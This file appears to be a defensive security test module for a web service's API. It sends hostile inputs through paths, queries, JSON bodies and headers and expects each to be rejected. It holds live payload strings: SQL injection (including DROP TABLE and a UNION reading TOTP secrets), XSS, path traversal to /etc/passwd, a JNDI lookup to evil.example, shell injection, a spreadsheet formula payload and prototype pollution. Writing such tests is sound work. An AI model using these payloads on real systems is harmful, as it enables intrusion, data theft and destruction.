"""Text that means something to somebody else: in paths, in queries, in headers and in JSON."""

import json
from collections.abc import Awaitable, Iterator
from typing import Any, Final
from urllib.parse import quote

from interlock.service.permissions import Role
from tests.service.attacks.request_cases import HERE
from tests.service.attacks.stage import Answers, Case, Stage
from tests.service.people.world import Browser

TEXTS: Final = {
    "a command of SQL": "x' OR '1'='1",
    "two commands of SQL": "x'; DROP TABLE users; --",
    "a union": "x' UNION SELECT totp_secret FROM users--",
    "a wildcard": "%_%",
    "a script": "<script>alert(1)</script>",
    "an image": '"><img src=x onerror=alert(1)>',
    "lines": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "a path": "../../../../etc/passwd",
    "a path of Windows": "..\\..\\secrets\\webhook-secret",
    "a whole path": "/etc/passwd",
    "a path in disguise": "%2e%2e%2fsecrets%2fwebhook-secret",
    "a path that begins well": "x/../../secrets/webhook-secret",
    "a file of an address": "file:///etc/passwd",
    "a zero byte": "x\x00.csv",
    "a template": "{{7*7}}${7*7}#{7*7}",
    "a format": "{0.__class__.__mro__}",
    "a look-up": "${jndi:ldap://evil.example/a}",
    "a shell": "x; id | `id` $(id)",
    "a formula": "=cmd|' /C calc'!A0",
    "an escape": "\x1b[2J\x1b]0;x\x07",
    "a separator": "x\u2028y\u2029z",
    "right to left": "\u202egnp.exe",
    "a prototype": "__proto__",
    "a constructor": "constructor",
    "long": "A" * 5_000,
}
PATHS: Final = {
    "an explanation": ("GET", "/api/explain/{}"),
    "an order": ("GET", "/api/orders/{}"),
    "a signal": ("GET", "/api/signals/{}"),
    "bars": ("GET", "/api/bars/{}"),
    "a backtest": ("GET", "/api/backtests/{}"),
    "a report": ("GET", "/api/backtests/{}/report"),
    "a file": ("GET", "/static/x/{}"),
    "a folder of files": ("GET", "/static/{}/x"),
    "an approval": ("POST", "/api/approvals/{}"),
    "an alert": ("POST", "/api/alerts/{}/acknowledge"),
    "a request": ("POST", "/api/requests/{}"),
    "a person": ("POST", "/api/people/{}/disable"),
    "a session": ("DELETE", "/api/sessions/{}"),
    "a token": ("DELETE", "/api/tokens/{}"),
}
QUERIES: Final = {
    "orders of a symbol": "/api/orders?symbol={}",
    "orders of a state": "/api/orders?state={}",
    "orders before": "/api/orders?before={}",
    "fills of so many": "/api/fills?limit={}",
    "bars of so many": "/api/bars/SPY?n={}",
    "points of the account": "/api/equity?points={}",
    "the audit of a kind": "/api/audit?event_type={}",
    "the audit of somebody": "/api/audit?actor={}",
    "the audit before": "/api/audit?before={}",
    "an export of a kind": "/api/audit/export?format={}",
    "what is no query": "/api/overview?x={}",
}
BODIES: Final[dict[str, dict[str, Any]]] = {
    "/api/approvals/a-1": {"approve": True, "hash": "ab" * 32},
    "/api/kill": {"mode": "graceful", "reason": "x"},
    "/api/reload": {"loosen": False, "reason": "x"},
    "/api/configuration/reload": {"reason": "x"},
    "/api/resume": {"cause": "DAILY_LOSS", "reason": "x"},
    "/api/people": {"name": "mallory", "role": "quant"},
    "/api/tokens": {"name": "mine", "permissions": ["see_health"], "days": 1},
    "/api/session": {"name": "ada", "password": "x", "code": "1"},
    "/api/setup": {"code": "x", "password": "a long walk in the rain"},
}
POLLUTIONS: Final = {
    "a prototype": '{"__proto__":{"is_admin":true},%s}',
    "a constructor": '{"constructor":{"prototype":{"role":"admin"}},%s}',
    "a key more": '{"role_of_mine":"admin",%s}',
    "a key twice": "{%s,%s}",
    "who did it": '{"who":"user:ada","actor":"user:ada",%s}',
    "not a number": '{"x":NaN,%s}',
    "no end": '{"x":Infinity,%s}',
    "depth": '{"x":' + "[" * 2_000 + "]" * 2_000 + ",%s}",
    "half a character": '{"x":"\\ud800",%s}',
    "a zero byte": '{"x":"\\u0000",%s}',
    "another coding": "utf-16",
    "a list of it": "[{%s}]",
    "it twice": "{%s}{%s}",
    "a comment": "{%s/* x */}",
    "a comma more": "{%s,}",
}
BAD: Final = (400, 401, 403, 404, 405, 409, 413, 414, 415, 422)


async def _admin(stage: Stage) -> Browser:
    """Return the administrator who tries all of this, so that nothing is refused for rights."""
    if stage.kept_browser is None:
        stage.kept_browser, _ = await stage.person(Role.ADMIN, stepped_up=True)
    return stage.kept_browser


def _in_paths() -> Iterator[Case]:
    for what, (method, path) in PATHS.items():
        for name, text in TEXTS.items():

            async def begin(
                stage: Stage, method: str = method, path: str = path, text: str = text
            ) -> Awaitable[Answers]:
                browser = await _admin(stage)
                body = _body_of(path) if method == "POST" else None
                return browser.send(method, path.format(quote(text, safe="")), body)

            yield Case(name=f"{name} as {what}", begin=begin, statuses=BAD)


def _body_of(path: str) -> dict[str, Any]:
    if "approvals" in path:
        return {"approve": True, "hash": "ab" * 32}
    return {"approve": True} if "requests" in path else {}


# Of the form of a name, and of nobody: they find nothing.
FIND_NOTHING: Final = {
    ("a path that begins well", "orders of a symbol"),
    ("a constructor", "orders of a symbol"),
    ("a constructor", "the audit of a kind"),
    ("a constructor", "the audit of somebody"),
}


def _in_queries() -> Iterator[Case]:
    for what, path in QUERIES.items():
        for name, text in TEXTS.items():

            async def begin(stage: Stage, path: str = path, text: str = text) -> Awaitable[Answers]:
                browser = await _admin(stage)
                return browser.get(path.format(quote(text, safe="")))

            statuses = (200,) if (name, what) in FIND_NOTHING else BAD
            yield Case(name=f"{name} for {what}", begin=begin, statuses=statuses)


def _in_bodies() -> Iterator[Case]:
    for path, content in BODIES.items():
        inner = _json(content)
        for name, form in POLLUTIONS.items():
            text = form.replace("%s", inner) if "%s" in form else "{" + inner + "}"
            raw = text.encode(form if form == "utf-16" else "utf-8")

            async def begin(stage: Stage, path: str = path, raw: bytes = raw) -> Awaitable[Answers]:
                browser = await _admin(stage)
                return stage.raw("POST", path, dict(HERE), raw, browser=browser)

            yield Case(name=f"{name} in {path}", begin=begin, statuses=(400, 422))


def _json(content: dict[str, Any]) -> str:
    return json.dumps(content)[1:-1]


_HEADERS: Final = (
    *("X-Correlation-Id", "X-Request-Id", "User-Agent", "Referer", "Accept", "Accept-Language"),
    *("If-None-Match", "Range", "X-Interlock-Background", "Sec-Fetch-Site", "Cookie"),
)


def _in_headers() -> Iterator[Case]:
    for header in _HEADERS:
        for name in ("a command of SQL", "a script", "an escape", "a separator", "a look-up"):

            async def begin(
                stage: Stage, header: str = header, text: str = TEXTS[name]
            ) -> Awaitable[Answers]:
                return stage.raw("GET", "/api/overview", {header: text})

            yield Case(name=f"{name} as {header}", begin=begin, statuses=(400, 401))


CASES: Final = (*_in_paths(), *_in_queries(), *_in_bodies(), *_in_headers())
